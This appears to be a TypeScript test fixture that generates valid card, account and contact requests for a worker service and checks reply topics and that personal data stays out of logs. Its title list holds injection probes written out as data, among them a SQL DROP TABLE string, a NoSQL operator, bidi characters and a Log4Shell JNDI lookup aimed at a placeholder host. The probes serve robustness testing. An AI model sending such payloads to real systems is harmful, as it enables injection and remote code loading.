// The valid requests sent after the hostile ones: cards registered and activated,
// accounts with an e-mail and a phone, contacts from a named human sender whose
// title holds operator strings, markup and bidi characters (legal there: stored
// as plain strings; control characters are refused in a title, ValidationFailed, and
// are among the hostile cases). Some name the card route's configured extra reply topic, some
// carry a large unknown header. Each must be answered Success on the topic it
// names; the personal data they carry must never reach a log line. They are sent
// through @workers/client (run.ts), which adds correlation-id and reply-topic.
import { asClientValue, type Target, type Value } from './targets';

export interface ValidRequest {
  target: Target;
  id: string;
  key: string;
  /** The envelope, in the shape the client encodes. */
  value: Value;
  /** Headers besides the client's own. */
  headers: Record<string, string>;
  /** Where it must be answered: its route's reply topic, or the further one it names. */
  replyTopic: string;
  /** A stored field that must read back exactly as sent. */
  stored?: { collection: string; id: string; field: string; value: string };
}

const ODD_TITLES = [
  '{"$gt":""} お知らせ',
  "'; DROP TABLE contacts;--",
  'a\u200bb\u202ec',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell probe, meant literally
  '${jndi:ldap://x.example/a}',
  '<b>太字</b> 改行',
];

export function validRequests(
  count: number,
  targets: readonly Target[],
  extraReply: string,
  tag: string,
): { requests: ValidRequest[]; personal: string[] } {
  const requests: ValidRequest[] = [];
  const personal: string[] = [];
  const add = (t: Target, id: string, v: Value, n: number, extra: Partial<ValidRequest> = {}): void => {
    requests.push({
      target: t,
      id,
      key: t.key(v),
      value: asClientValue(t, v),
      headers: n % 50 === 7 ? { 'x-trace-blob': 't'.repeat(300_000) } : {},
      replyTopic: t.replyTopic,
      ...extra,
    });
  };
  for (let n = 0; requests.length < count; n++) {
    const t = targets[n % targets.length]!;
    const id = `ok-${tag}-${n}`;
    const v = t.valid(id, 100_000 + n);
    const op = Object.values(v.operation as Record<string, Value>)[0]!;
    if (t.name === 'card') {
      const lc = op.loyaltyCard as Value;
      lc.cardPinHmac = `${n.toString(16).padStart(8, '0')}ab`.repeat(7).slice(0, 64);
      personal.push(String(lc.phoneNumber), String(lc.cardPinHmac));
      const toExtra = n % 5 === 0;
      add(t, id, v, n, toExtra ? { replyTopic: extraReply } : {});
      const activate = {
        ...v,
        requestId: `${id}-act`,
        operation: { 'alcs.card.ActivateCard': { cardNumber: op.cardNumber, phoneNumber: lc.phoneNumber } },
      };
      add(t, `${id}-act`, activate, n);
    } else if (t.name === 'account') {
      op.phone = `090-${String(1000 + (n % 9000))}-${String(5000 + (n % 4000))}`;
      personal.push(String(op.email), String(op.phone), `+8190${String(op.phone).slice(4).replace('-', '')}`);
      add(t, id, v, n);
    } else {
      const title = ODD_TITLES[n % ODD_TITLES.length]!;
      Object.assign(op, { title, sender: { name: `山田 太郎${n}`, type: 'HUMAN' } });
      personal.push(`山田 太郎${n}`);
      add(t, id, v, n, { stored: { collection: 'contacts', id: String(op.contactId), field: 'title', value: title } });
    }
  }
  return { requests, personal };
}
